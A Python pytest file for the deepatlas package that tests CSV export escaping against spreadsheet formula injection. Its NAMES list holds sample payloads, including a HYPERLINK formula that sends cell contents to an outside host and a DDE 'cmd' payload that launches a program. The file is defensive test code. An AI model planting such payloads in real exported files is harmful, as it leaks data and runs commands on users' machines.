"""Names in CSV files that a spreadsheet would take for formulas."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from deepatlas.cells import cell, text_of
from deepatlas.evaluate.read import read_rows
from deepatlas.evaluate.rows import Row, metrics_csv
from deepatlas.io.export.markups import read_markups, write_markups
from deepatlas.localize.found import Found
from deepatlas.localize.found_files import write_found
from deepatlas.localize.measure import StructureStatistics
from deepatlas.localize.measure_files import StatisticsFiles
from deepatlas.localize.points import Located
from deepatlas.localize.trust.estimate import Trust
from deepatlas.localize.trust.table import TrustTable
from deepatlas.model.fit import Fit
from deepatlas.space.markup import Markups, Point

EVIL = '=HYPERLINK("http://example.org?"&A1)'
FIT = Fit(0.9, 0.5)
NAMES = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "'=1+1", "''@x"]


def test_truth_values_are_words_of_json():
    assert [cell(v) for v in (True, False, 1, 0.5, None, "True")] == ["true", "false", 1, 0.5, None, "True"]


def harmless(text: str) -> None:
    """No cell of a table is one that a spreadsheet computes."""
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            try:
                float(value)
            except ValueError:
                assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value


@given(st.text(st.sampled_from("'=+-@\t\ra1.e "), max_size=6))
def test_every_name_is_read_back(name):
    written = cell(name)
    assert text_of(written) == name
    harmless(f'"{written}"\n' if "\r" not in written else "x\n")


@pytest.mark.parametrize("text", ["-12.5", "+3", "-1e-05", "-inf", "12", "", "liver", "don't"])
def test_numbers_and_plain_names_are_as_they_were(text):
    assert cell(text) == text == text_of(text)
    assert cell(-3.5) == -3.5 and cell(None) is None


@pytest.mark.parametrize("name", NAMES)
def test_tables_hold_no_formula_and_give_back_the_names(tmp_path, name):
    rows = [Row(name, name, 0.5, 1.0, 2.0, 3.0, 0.4, 0.6)]
    text = metrics_csv(rows)
    harmless(text)
    (tmp_path / "metrics.csv").write_text(text)
    assert read_rows(tmp_path / "metrics.csv") == rows

    for _ in range(2):
        # The second time it reads what the first one wrote.
        with TrustTable(tmp_path) as table:
            table.add(name, {name: Trust(0.5, 0.25)})
    written = (tmp_path / "trust.csv").read_text()
    harmless(written)
    assert len(written.splitlines()) == 2

    with StatisticsFiles(tmp_path) as table:
        zero = (0.0, -1.0, 2.0)
        table.add(
            name, [StructureStatistics(name, 1, 8, 0.1, -9.5, 1, 2, 3, zero, zero, zero)], FIT.to_dict()
        )
    harmless((tmp_path / "statistics.csv").read_text())

    place = Located(np.array([[-1.0, 2, 3]]), np.zeros(1), np.ones(1, dtype=bool), [""], FIT)
    write_found(tmp_path / "found.csv", {name: Found(name, (name,), place, (), (), FIT)})
    harmless((tmp_path / "found.csv").read_text())

    write_markups(tmp_path / "points.csv", Markups((Point(name, (-1.0, -2.0, 3.0)),)))
    harmless((tmp_path / "points.csv").read_text())
    assert read_markups(tmp_path / "points.csv").points[0].name == name
